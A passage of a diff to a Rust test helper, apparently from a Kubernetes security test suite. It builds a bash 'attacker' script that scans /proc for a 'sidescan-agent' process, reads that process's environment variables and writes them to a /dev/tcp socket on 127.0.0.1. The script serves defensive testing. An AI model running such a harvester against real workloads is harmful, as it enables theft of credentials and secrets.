@@ -80,14 +80,15 @@ async fn scan_with(values: &std::path::Path, ns: &str, pod: &str) -> Ran {
 fn attacker(port: u16) -> String {
     format!(
         r#"exec 3<>/dev/tcp/127.0.0.1/{port} || exit 1
-mapfile -d '' own < /proc/self/environ && echo "self-environ ${{#own[@]}}" >&3
+# ($$ would reach bash as $: Kubernetes reads $$ in arguments as an escaped $.)
+mapfile -d '' own < /proc/self/environ && echo "self-environ ${{#own[@]}} pid $BASHPID" >&3
 while :; do
   for d in /proc/[0-9]*; do
     pid=${{d#/proc/}}
-    [ "$pid" = "$$" ] && continue
+    [ "$pid" = "$BASHPID" ] && continue
     mapfile -d '' argv < "$d/cmdline" 2>/dev/null || continue
-    case "${{argv[*]}}" in *sidescan-agent*) ;; *) continue ;; esac
-    echo "agent $pid" >&3
+    case "${{argv[0]}}" in *sidescan-agent) ;; *) continue ;; esac
+    echo "agent $pid ${{argv[0]}}" >&3
     if mapfile -d '' env < "$d/environ" 2>/dev/null; then
       echo "ENVIRON $pid ${{#env[@]}}" >&3
       for v in "${{env[@]}}"; do
